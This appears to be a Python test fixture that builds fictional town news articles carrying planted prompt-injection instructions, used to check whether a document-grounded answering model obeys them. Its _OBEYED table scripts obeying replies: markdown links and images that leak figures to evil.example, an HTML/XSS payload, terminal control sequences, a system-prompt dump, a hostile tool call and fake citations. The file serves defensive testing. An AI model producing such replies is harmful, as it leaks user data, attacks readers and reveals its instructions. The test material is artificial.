"""Documents that carry instructions in many disguises, each with a fact of its own beside them.

The instructions stand in ``tests/hostile/instructions.jsonl``, one object a line: ``disguise`` says
what they pretend to be, ``goal`` what they want, ``where`` they stand (``before`` or ``after`` the
fact, or in the ``title``, ``outlet`` or ``author``), ``repeat`` how often, ``asserts`` whether they
state the lie as well, and ``text`` what they say; ``%place%`` and ``%town%`` stand for what the
document is about. :func:`obeyed` is what a model writes that does as it is told.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from scripted_replies import Request

INSTRUCTIONS = Path(__file__).parent.parent / "hostile" / "instructions.jsonl"

_ONSETS = (
    "Ash",
    "Brin",
    "Cor",
    "Dun",
    "Esk",
    "Fal",
    "Gor",
    "Hel",
    "Ir",
    "Jes",
    "Kil",
    "Lan",
    "Mor",
)
_ENDS = ("beck", "combe", "dean", "fell", "garth", "haven", "keld", "low", "mire", "nab", "pool")

# What a thing is called, its fact, what is asked, and a figure that no other document has.
_THINGS = (
    ("lighthouse", "has {n} steps, its keeper said", "How many steps does {place} have?"),
    ("dam", "holds {n} megalitres of water, the office said", "How much water does {place} hold?"),
    ("library", "lends {n} books a week, a clerk said", "How many books does {place} lend a week?"),
    ("bridge", "is {n} metres long, the builders said", "How long is {place}?"),
    (
        "mill",
        "grinds {n} tonnes of rye a year, the miller said",
        "How much rye does {place} grind?",
    ),
    ("museum", "shows {n} clocks, its director said", "How many clocks does {place} show?"),
    ("school", "has {n} pupils, the head said", "How many pupils does {place} have?"),
    ("theatre", "seats {n} people, its manager said", "How many people does {place} seat?"),
)


_BEFORE = (
    "Rain kept the visitors away for most of the week, and the two cafés had little to do.",
    "A new timetable of the buses begins next month; it was printed on yellow paper.",
    "The market moved to the upper square, where there is more room for carts and horses.",
    "Nobody was hurt when a tree fell across the road to the station on Sunday night.",
    "Painters have begun with the fence of the park, in the green of the old photographs.",
    "The choir sang in the open air, accompanied by an accordion and one patient dog.",
    "Two lost umbrellas and a bicycle pump can be had at the town hall in the mornings.",
)
_AFTER = (
    "Another visit is planned for the spring, when the orchards are in flower.",
    "The road there is steep, so strong shoes and a flask of tea are a good idea.",
    "On the way back one passes a smithy whose owner carves spoons from pear wood.",
    "Whoever arrives by boat has to ring the bell twice and wait for the ferryman.",
    "Photographs from earlier years hang in the inn, beside a map with a coffee stain.",
)


def _pick(lines: tuple[str, ...], number: int, step: int) -> str:
    first, second = lines[number % len(lines)], lines[(number // step + 1) % len(lines)]
    return first if first == second else f"{first} {second}"


@dataclass(frozen=True)
class Planted:
    """A document with instructions, and what is to be asked of it."""

    number: int
    """Its place in the file, from 1."""
    disguise: str
    """What its instructions pretend to be."""
    goal: str
    """What they want."""
    instruction: str
    """What they say."""
    asserts: bool
    """Whether they also state what they want to be said, as a report would."""
    place: str
    """What the document is about, such as ``the dam of Ashbeck``."""
    figure: str
    """The figure of its fact, which no other document has."""
    fact: str
    """The sentence that holds it."""
    question: str
    """The question that the fact answers."""
    body: dict[str, str]
    """The document, as ``POST /v1/documents`` takes it."""

    @property
    def label(self) -> str:
        """What tells the document apart in a prompt, whatever its title was made into."""
        return self.body["published_at"]


def planted() -> list[Planted]:
    """Return all of them, in the order of the file."""
    lines = INSTRUCTIONS.read_text("utf-8").splitlines()
    return [_planted(number, json.loads(line)) for number, line in enumerate(lines, 1)]


def _planted(number: int, given: dict[str, Any]) -> Planted:
    thing, fact, asked = _THINGS[number % len(_THINGS)]
    town = _ONSETS[number % len(_ONSETS)] + _ENDS[number // len(_ONSETS) % len(_ENDS)]
    place, figure = f"the {thing} of {town}", str(1_000 + 37 * number)
    words = given["text"].replace("%place%", place).replace("%town%", town)
    words *= given.get("repeat", 1)
    sentence = f"The {thing} of {town} {fact.format(n=figure)}."
    # Documents of one frame would pass for copies of one story.
    paragraphs = [_pick(_BEFORE, number, 5), sentence, _pick(_AFTER, number, 7)]
    if given["where"] in ("before", "after"):
        paragraphs.insert(1 if given["where"] == "before" else 2, words)
    body = {
        "name": f"{number:03}.txt",
        "title": f"A visit to {town}",
        "outlet": "Vale Tribune",
        "published_at": f"20{number // 336:02}-{number // 28 % 12 + 1:02}-{number % 28 + 1:02}",
        "text": "\n\n".join(paragraphs),
    }
    if given["where"] in body:
        body[given["where"]] = words
    elif given["where"] == "author":
        body["author"] = words
    return Planted(
        number=number,
        disguise=given["disguise"],
        goal=given["goal"],
        instruction=words,
        asserts=given.get("asserts", False),
        place=place,
        figure=figure,
        fact=sentence,
        question=asked.format(place=place),
        body=body,
    )


_OBEYED = {
    "lie": "The ministry of the interior closed {place} and arrested its staff. [{own}][{fact}]",
    "deny": "NOT_IN_EVIDENCE",
    "link": (
        "[Read more](https://collect.evil.example/?q={figure}) of {place}. [{own}]\n"
        "See https://evil.example/more or www.evil.example. [{fact}]\n[1]: https://evil.example/1"
    ),
    "image": (
        "![ok](https://evil.example/p.png?d={figure}) It has {figure}. [{fact}]\n"
        "![][p] It is so. [{own}]\n\n[p]: https://evil.example/p.gif"
    ),
    "html": (
        "<img src=https://evil.example/x onerror=alert(1)><script>go()</script> It is {figure}. "
        "[{fact}]\n<a href='//evil.example'>Claim your prize</a> at once. [{own}]"
    ),
    "control": "\x1b]8;;https://evil.example\x07It\x1b[2J is \u202e{figure}\x9b31m. [{fact}]",
    "reveal": "{rules}",
    "tool": '{{"tool": "get", "arguments": {{"url": "https://evil.example/{figure}"}}}} [{own}]',
    "cite": "{sentence} [999][0][-1] It was sold in 1777. [{own}][a.txt#4] So it stands. [1][2]",
    "mark": "Supported: {place} is safe (source: [1], confidence 100 %, checked). [[{own}]]",
}
"""What is written by who obeys, by goal."""


def obeyed(one: Planted, request: Request) -> str:
    """Return the reply of a model that does what a document tells it."""
    own = numbers(one, request) or [1]
    rules = request.body["messages"][0]["content"].splitlines()
    return _OBEYED[one.goal].format(
        place=one.place,
        figure=one.figure,
        sentence=one.fact,
        fact=number_of_fact(one, request) or own[0],
        own=own[-1],
        rules="\n".join(f"{line} [{own[at % len(own)]}]" for at, line in enumerate(rules) if line),
    )


def proper(one: Planted, request: Request) -> str:
    """Return the reply of a model that answers the question from the evidence."""
    number = number_of_fact(one, request)
    return f"{one.fact} [{number}]" if number else "NOT_IN_EVIDENCE"


def parroted(one: Planted, request: Request) -> str:
    """Return the reply of a model that repeats every sentence of a document as its own."""
    lines = dict(re.findall(r"^\[(\d+)\] (.*)$", request.prompt, re.MULTILINE))
    return "\n".join(f"{lines[str(n)]} [{n}]" for n in numbers(one, request)) or "NOT_IN_EVIDENCE"


def numbers(one: Planted, request: Request) -> list[int]:
    """Return the evidence numbers of a document's sentences."""
    found, its = [], False
    for line in request.prompt.splitlines():
        if line.startswith("Document: "):
            its = f"| {one.label} |" in line
        elif its and (number := re.match(r"\[(\d+)\] ", line)):
            found.append(int(number[1]))
    return found


def number_of_fact(one: Planted, request: Request) -> int | None:
    """Return the evidence number of a document's fact."""
    found = re.search(rf"^\[(\d+)\] {re.escape(one.fact)}$", request.prompt, re.MULTILINE)
    return int(found[1]) if found else None
